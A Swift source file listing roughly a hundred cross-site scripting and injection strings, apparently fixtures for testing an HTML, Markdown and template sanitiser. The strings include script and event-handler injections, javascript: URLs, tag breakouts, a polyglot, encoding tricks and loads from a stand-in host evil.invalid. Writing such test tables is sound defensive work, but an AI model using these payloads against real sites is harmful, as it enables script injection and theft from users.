/// Text that wants to be more than text: to end an element or attribute, to run, to load.
struct Payload {
  /// What somebody typed into a field.
  let text: String
  /// Something harmless that is treated alike where it is an address: blocked where the text is.
  let twin: String

  private init(_ text: String, like twin: String = "h0h") {
    self.text = text
    self.twin = twin
  }

  /// How the text looks to a reader: characters that HTML does not know are gone.
  var shown: String {
    String(String.UnicodeScalarView(text.unicodeScalars.filter { $0.value >= 0x20 || $0 == "\n" || $0 == "\t" }))
  }

  /// The table.
  static let all: [Payload] = [
    // Elements.
    Payload("<script>pwn()</script>"), Payload("<ScRiPt src=//evil.invalid/a.js></sCrIpT>"),
    Payload("<img src=x onerror=pwn()>"), Payload("<img src=x onerror=pwn()//"), Payload("<svg/onload=pwn()>"),
    Payload("<svg><script>pwn()</script></svg>"),
    Payload("<svg><a xlink:href=javascript:pwn()><text>x</text></a></svg>"),
    Payload("<iframe src=javascript:pwn()></iframe>"), Payload("<iframe srcdoc='<script>parent.pwn()</script>'>"),
    Payload("<object data=//evil.invalid></object>"), Payload("<embed src=//evil.invalid>"),
    Payload("<base href=//evil.invalid/>"), Payload("<meta http-equiv=refresh content='0;url=//evil.invalid'>"),
    Payload("<link rel=stylesheet href=//evil.invalid/a.css>"),
    Payload("<style>@import '//evil.invalid/a.css';</style>"),
    Payload("<form action=//evil.invalid><button>x</button></form>"), Payload("<details open ontoggle=pwn()>"),
    Payload("<body onload=pwn()>"), Payload("<input autofocus onfocus=pwn()>"), Payload("<marquee onstart=pwn()>"),
    Payload("<a href=javascript:pwn()>x</a>"), Payload("<video><source onerror=pwn()></video>"),
    Payload("<math><mtext><table><mglyph><style><img src=x onerror=pwn()>"),
    Payload("<template><script>pwn()</script></template>"),
    Payload("<noscript><p title='</noscript><img src=x onerror=pwn()>'>"), Payload("<\u{0}script>pwn()</script>"),
    Payload("<b\nonmouseover=pwn()>x</b>"), Payload("<x/onclick=pwn()>"), Payload("<!--<script>-->"),
    Payload("<![CDATA[<script>pwn()</script>]]>"),
    Payload("<?xml version='1.0'?><script>pwn()</script>"), Payload("<h1>big</h1><hr><table><tr><td>"),
    // Ends.
    Payload("</script><script>pwn()</script>"), Payload("</title><script>pwn()</script>"),
    Payload("</textarea><script>pwn()</script>"), Payload("</style><script>pwn()</script>"),
    Payload("--><script>pwn()</script>"),
    Payload("--!><script>pwn()</script>"), Payload("]]><script>pwn()</script>"),
    Payload("</p></div></li></td></table>"),
    Payload("\"><script>pwn()</script>"), Payload("'><script>pwn()</script>"), Payload("`><script>pwn()</script>"),
    // Attributes.
    Payload("\" onmouseover=\"pwn()"), Payload("' onfocus='pwn()' autofocus='"), Payload("x onclick=pwn() y"),
    Payload("\" style=\"background:url(//evil.invalid)"), Payload("` onload=`pwn()"),
    Payload("\" srcdoc=\"<script>pwn()</script>"),
    // Addresses.
    Payload("javascript:pwn()", like: "data:h0h"), Payload("JaVaScRiPt:pwn()", like: "data:h0h"),
    Payload("java\tscript:pwn()", like: "data:h0h"), Payload("java\nscript:pwn()//", like: "data:h0h"),
    Payload("\u{1}javascript:pwn()", like: "data:h0h"), Payload(" javascript:pwn()", like: "data:h0h"),
    Payload("javascript://evil.invalid/%0Apwn()", like: "data:h0h"), Payload("vbscript:pwn()", like: "data:h0h"),
    Payload("data:text/html,<script>pwn()</script>", like: "data:h0h"),
    Payload("data:text/html;base64,PHNjcmlwdD4=", like: "data:h0h"),
    Payload("blob:https://evil.invalid/1", like: "data:h0h"), Payload("javascript&colon;pwn()"),
    Payload("&#106;avascript:pwn()"),
    Payload("//evil.invalid/\"><b>", like: "//h0h"), Payload("/\\evil.invalid", like: "/h0h"),
    Payload("https://evil.invalid/?a='b'&c=\"d\"", like: "https://h0h"),
    // Markdown, Liquid and other languages.
    Payload("*a* __b__ `c` ~~d~~"), Payload("[x](javascript:pwn())"), Payload("![x](//evil.invalid/x.png)"),
    Payload("<javascript:pwn()>"),
    Payload("[a]: javascript:pwn()\n\n[a]"), Payload("\n\n# Heading\n\n- item\n\n    code"),
    Payload("```\n<script>pwn()</script>\n```"),
    Payload("{{ 7 | times: 7 }}{% include 'p.html' %}"), Payload("{% raw %}{{ x }}"), Payload("qZ0000Zq qZ0001Zq"),
    Payload("${pwn()} #{pwn()}"),
    Payload("\\\";pwn();//"), Payload("';pwn();//"), Payload("&lt;script&gt;pwn()&lt;/script&gt;"),
    Payload("&#60;script&#62;pwn()"),
    Payload("%3Cscript%3Epwn()%3C/script%3E"), Payload("+ADw-script+AD4-pwn()"), Payload("\u{FF1C}script\u{FF1E}pwn()"),
    Payload("a\u{2028}pwn()\u{2029}b"), Payload("\u{202E}>tpircs<"), Payload("\u{FEFF}<script>pwn()</script>"),
    Payload("=1+1|'x'!A1"),
    Payload(
      "javascript:/*--></title></style></textarea></script><svg/onload='/*'/*\"/*`/*+/*/pwn()//'>", like: "data:h0h"),
  ]
}
